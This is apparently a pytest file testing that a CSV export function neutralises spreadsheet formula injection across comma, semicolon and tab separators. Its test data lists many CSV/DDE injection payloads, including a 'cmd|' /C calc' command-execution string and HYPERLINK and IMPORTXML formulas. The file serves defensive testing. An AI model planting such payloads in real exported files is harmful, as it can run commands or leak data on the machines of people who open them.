"""No word of a scenario is a formula in a file that a spreadsheet opens, whichever separator it believes in."""

from __future__ import annotations

import csv
import math
import re
import unicodedata
from pathlib import Path

import pandas as pd
import pytest

from simdesk.report.spreadsheet import harmless, write_csv

SEPARATORS = (",", ";", "\t")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1;"here")', "=HYPERLINK('x','y')", "+cmd|'/C x'!A", "=IMPORTXML(A1, B1)",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(A1)",
    " =1+1", "   +1+1", "\u00a0=1+1", "\u3000@SUM(A1)", '"=1+1', '""=1+1', ' "=1+1"', "\ufeff=1+1", "\u200b=1+1",
    "\u200d-1+1", "\u2060=1+1", "\u00ad@A1", "\u202e=1+1", "\x00=1+1", "\x07=1+1", "\x1f=1+1", "--1", "+-1", "=-1",
    "-1-", "- 5x", "+49 30 901820", "-5 %", "-inf!A1",
)  # fmt: skip
PAYLOADS = (
    *FORMULAS,
    *(f"a{separator}=1+1" for separator in (*",;\t\n\r\v\f\u2028", "\r\n", "; ", ";;", ';"')),
    "a;b;c;=1+1", "a; \ufeff+1+1", "=1;=2;=3", "-5;=1+1", "a;-5;@x", "a\n=1+1;\n+2+2", 'x";=1+1;"', '","=1+1',
    '";"=1+1',
    '"\n=1+1', '""";"=1+1', "'\n=1+1", ";=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t=1+1", " \t=1+1",
    "a;\t=1+1", "a;\r\n=1+1", "\n\n\n=1+1", "a;＝1+1", "a;\u200b＝1+1", "a\t\"＠SUM(A1)",
)  # fmt: skip
"""After OWASP's page on CSV injection, with every way to stand at the beginning of a cell."""


def cells(path: Path, separator: str) -> list[str]:
    """All cells of a file to a spreadsheet that splits it in its own way."""
    with path.open(encoding="utf-8", newline="") as file:
        return [
            cell for row in csv.reader((line.replace("\0", "") for line in file), delimiter=separator) for cell in row
        ]


def runs(cell: str) -> bool:
    """Whether a spreadsheet computes a cell: behind spaces, quotes and what is not seen it begins with a sign, and is
    no number."""
    seen = cell.lstrip('" \u00a0\u3000\ufeff\u200b\u200d\u2060\u00ad\u202e\x00\x07\x1f')
    if seen[:1] in ("\t", "\r", "\n"):
        return True
    if unicodedata.normalize("NFKC", seen[:1]) not in ("=", "+", "-", "@"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_there_are_many_payloads():
    """Sixty at least, each of them a formula to some spreadsheet."""
    assert len(set(PAYLOADS)) >= 60
    assert all(any(runs(part) for part in re.split(r"[,;\t\r\n\v\f\u2028]", payload)) for payload in PAYLOADS)


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(tmp_path: Path, payload: str, separator: str):
    """As a cell, as the name of a column, first, between others and last."""
    path = tmp_path / "table.csv"
    table = pd.DataFrame({payload: [payload, "b"], "number": [-5.0, 1.5], "last;": ["a;", payload]})

    write_csv(table, path)

    assert [cell for cell in cells(path, separator) if runs(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_word_that_is_harmless_is_left_alone(payload: str):
    """Nothing but apostrophes is added, and no second time."""
    once = harmless(payload)

    assert once.replace("'", "") == payload.replace("'", "")
    assert harmless(once) == once


@pytest.mark.parametrize("word", ["occupancy", "first-line", "a;b", "-5", "+3.5", "-1e-9", "a - b", "x=1", "", " "])
def test_words_and_numbers_stay_as_they_are(word: str):
    """A sign inside a word computes nothing, and a number is not a formula."""
    assert harmless(word) == word


def test_numbers_are_written_as_numbers(tmp_path: Path):
    """Also negative ones; a missing one is an empty cell, and every digit is there."""
    path = tmp_path / "table.csv"
    table = pd.DataFrame({"name": ["a", "b", "c"], "value": [-5.25, math.nan, 1 / 3], "count": [-1, 0, 7]})

    write_csv(table, path)

    assert path.read_text("utf-8").splitlines()[1] == '"a",-5.25,-1'
    pd.testing.assert_frame_equal(pd.read_csv(path), table)


def test_a_part_behind_a_semicolon_is_told_apart():
    """The apostrophe stands where a cell would begin, so that the words before it can still be read."""
    assert harmless("a;=cmd|' /C calc'!A0") == "a;'=cmd|' /C calc'!A0"
    assert harmless("=1+1") == "'=1+1"
